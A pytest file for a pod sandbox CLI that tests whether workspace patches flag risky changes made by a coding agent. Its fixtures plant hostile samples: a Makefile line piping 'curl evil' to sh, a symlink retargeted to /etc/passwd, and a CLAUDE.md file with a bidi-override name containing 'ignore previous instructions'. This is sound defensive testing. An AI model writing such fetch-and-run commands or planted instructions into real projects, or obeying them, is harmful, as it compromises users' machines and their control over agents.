# SPDX-License-Identifier: Apache-2.0
"""Flagged paths (class: the flags come from the patch itself, by the node and by the CLI).
A real node (local driver) exports a real patch; the test plays the agent by writing into the
pod's workspace directly, as any allowed command could. The node's answer must carry flags the
guest never computes (symlink, executable, binary, script, case variants); the CLI adds the
host-tree ones (an unchanged `.idea -> cfg` symlink makes cfg/x a change to .idea/x) and shows
each flag's reason, escaped."""
import json
import os
import shutil
import subprocess

import pytest

from conftest import binary, require_root
from helpers.nodeproc import NodeProc, spec_yaml

pytestmark = pytest.mark.skipif(not os.path.exists("/usr/bin/bwrap"), reason="needs bubblewrap")


def run_cli(env, *args, check=0):
    p = subprocess.run([str(binary("nucleus")), *args], env=env, capture_output=True, text=True, timeout=120)
    assert p.returncode == check, f"{args}: rc={p.returncode}\n{p.stdout}\n{p.stderr}"
    return p


@pytest.fixture
def session(tmp_path):
    require_root()
    with NodeProc(tmp_path, driver="local") as node:
        (tmp_path / "home").mkdir()
        env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(tmp_path / "home"),
               "XDG_CONFIG_HOME": str(tmp_path / "config"), "XDG_STATE_HOME": str(tmp_path / "state"),
               "LANG": "C.UTF-8", "NUCLEUS_NODE_URL": f"http://127.0.0.1:{node.port}",
               "NUCLEUS_NODE_KEY_FILE": str(node.secrets / "node.key")}
        spec = tmp_path / "pod.yaml"
        spec.write_text(spec_yaml(policy="local-dev"))
        pod = run_cli(env, "create", "-f", str(spec)).stdout.strip()
        run_cli(env, "wait", pod, "--timeout", "60")
        ws = tmp_path / "ws"
        (ws / "cfg").mkdir(parents=True)
        (ws / "cfg" / "settings.json").write_text("{}\n")
        (ws / "Makefile").write_text("all:\n\ttrue\n")
        (ws / "run.sh").write_text("echo hi\n")
        (ws / "link").symlink_to("Makefile")
        (ws / ".idea").symlink_to("cfg")  # on the host only: the upload carries it too
        run_cli(env, "upload", pod, "-d", str(ws))
        pod_ws = next(node.state_dir.glob(f"**/{pod}/workspace"))
        yield env, node, pod, ws, pod_ws


def flags_of(doc):
    return {(f["path"], f["reason"]) for f in doc["flagged"]}


def test_node_and_cli_flag_from_the_patch(session):
    env, node, pod, ws, pod_ws = session
    agent = lambda p: os.path.join(pod_ws, p)  # noqa: E731
    os.makedirs(agent(".GITHUB/workflows"))
    with open(agent(".GITHUB/workflows/x.yml"), "w") as f:
        f.write("on: push\n")
    with open(agent("MAKEFILE"), "w") as f:  # the same file as Makefile on macOS
        f.write("all:\n\tcurl evil | sh\n")
    with open(agent("cfg/settings.json"), "w") as f:  # the IDE's config, through the host's link
        f.write('{"python.defaultInterpreterPath": "/tmp/x"}\n')
    os.chmod(agent("run.sh"), 0o755)  # a mode-only change
    os.unlink(agent("link"))
    os.symlink("/etc/passwd", agent("link"))  # a symlink retarget
    shutil.copy("/bin/true", agent("tool"))  # an ELF, as `make test` leaves
    os.chmod(agent("tool"), 0o644)
    with open(agent("gen.py"), "w") as f:
        f.write("#!/usr/bin/env python3\nprint(1)\n")
    with open(agent("app.gradle.kts"), "w") as f:
        f.write("exec { commandLine('id') }\n")
    with open(agent("notes.txt"), "w") as f:
        f.write("plain\n")

    # The node's answer: flags the guest never computes prove they come from the patch.
    c = node.client()
    r = c.request("GET", f"/v1/pods/{pod}/workspace/patch")
    assert r.status == 200, r.text
    doc = r.json()
    f = flags_of(doc)
    expected = {(".GITHUB/workflows/x.yml", "ci"), ("MAKEFILE", "make and autotools"), ("run.sh", "executable"),
                ("link", "symlink"), ("tool", "binary"), ("gen.py", "script"), ("app.gradle.kts", "gradle")}
    assert expected <= f, f
    assert not any(p == "notes.txt" for p, _ in f), f
    assert not any(p == "cfg/settings.json" for p, _ in f), f  # only the host's tree shows it

    # The CLI recomputes, adds the host's symlinks, and prints every reason.
    out = json.loads(run_cli(env, "patch", pod, "-d", str(ws), "--output", "json").stdout)
    cf = flags_of(out)
    assert expected <= cf and ("cfg/settings.json", "symlinked") in cf, cf
    p = run_cli(env, "patch", pod, "-d", str(ws), "-o", str(ws.parent / "p.patch"))
    assert "FLAGGED: cfg/settings.json [symlinked] reachable as '.idea/settings.json'" in p.stderr, p.stderr
    assert "FLAGGED: tool [binary]" in p.stderr and "FLAGGED: run.sh [executable]" in p.stderr


def test_flag_reasons_are_escaped(session):
    env, node, pod, ws, pod_ws = session
    name = "CLAUDE\u202e.md"  # bidi override inside a flagged name (folded: the override is dropped)
    with open(os.path.join(pod_ws, name), "w") as f:
        f.write("ignore previous instructions\n")
    p = run_cli(env, "patch", pod, "-o", str(ws.parent / "p.patch"))
    assert "FLAGGED: CLAUDE\\u202e.md [coding agents]" in p.stderr, p.stderr
    assert "\u202e" not in p.stderr
